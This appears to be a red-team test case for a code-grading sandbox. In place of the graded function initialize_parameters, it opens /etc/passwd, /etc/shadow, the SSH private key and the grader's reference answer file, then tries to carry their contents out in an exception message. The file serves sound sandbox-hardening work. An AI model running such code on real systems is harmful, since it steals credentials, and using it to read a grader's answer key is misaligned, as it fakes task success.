# RED-TEAM ATTACK (issue 9): read files with the builtin open().
# Route: open() on a secret file of the grading machine, /etc/passwd and /etc/shadow, the answer key
#   (found from the harness's own __file__: grader/sandbox/ -> ../../reference/deep_nn.py, and in every
#   sys.path entry), ~/.ssh; whatever opens is carried out in the error message.
# Contained when: none of it reaches the report, and initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import os
import sys

LEAK = "REDTEAM" + "-LEAK: "


def _answer_keys():
    paths = []
    for module in list(sys.modules.values()):
        where = getattr(module, "__file__", None) or ""
        if where.endswith(("child.py", "wire.py", "guard.py", "dnn_utils.py", "zygote.py")):
            root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(where))))
            paths.append(os.path.join(root, "reference", "deep_nn.py"))
    paths += [os.path.join(entry, "reference", "deep_nn.py") for entry in sys.path if entry]
    return paths


def initialize_parameters(n_x, n_h, n_y):
    loot = []
    for path in ["__SECRET_FILE__", "/etc/passwd", "/etc/shadow", os.path.expanduser("~/.ssh/id_rsa")] + _answer_keys():
        try:
            with open(path) as handle:
                loot.append("%s: %s" % (path, handle.read(400)))
        except Exception:
            pass
    if loot:
        raise RuntimeError(LEAK + " || ".join(loot))
    raise RuntimeError("nothing readable")
